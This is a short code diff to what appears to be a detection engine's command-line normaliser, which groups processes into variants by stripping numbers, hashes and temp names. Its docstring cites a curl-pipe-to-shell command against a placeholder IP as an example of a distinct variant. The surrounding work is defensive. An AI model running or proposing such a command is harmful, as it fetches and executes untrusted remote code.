@@ -1,4 +1,4 @@
-"""What is the same in command lines that differ only in what was filled in: numbers, names, addresses, hashes, user directories.
+"""What is the same in command lines that differ only in what was filled in: numbers, addresses, hashes, made-up names, homes.
 
 Two processes of one chain are of one variant when their command lines have one shape. `sh -c 'curl http://1.2.3.4/x | sh'` and
 `sh -c 'debian-sa1 1 1'` below cron are two; the hundred runs of the latter are one, whatever numbers they were given.
@@ -15,8 +15,8 @@ from collections.abc import Sequence
 
 from engine.words.command_line import words
 
-_MADE_UP = re.compile(r"[\w~]*<(?:n|hex)>[a-z_~]+<(?:n|hex)>[\w~<>]*|tmp\.\w{6,10}")
-"""Letters between two numbers, as in `3f9ac2`, and what mktemp makes. One number at either end is a series: `sa1`, `report_12`."""
+_MADE_UP = re.compile(r"[\w~]*<(?:n|hex)>[a-z_~]+<(?:n|hex)>[\w~<>]*|tmp\.[\w<>]{6,}")
+"""Letters between two numbers, as in `3f9ac2`, and what mktemp makes. One number at an end is a series: `sa1`, `report_12`."""
 _EXTENSION = re.compile(r"\.[a-z]{1,5}\Z")
 _HOMES = frozenset({"/home", "\\users", "users", "/users"})
 _LONGEST_NAME = 24
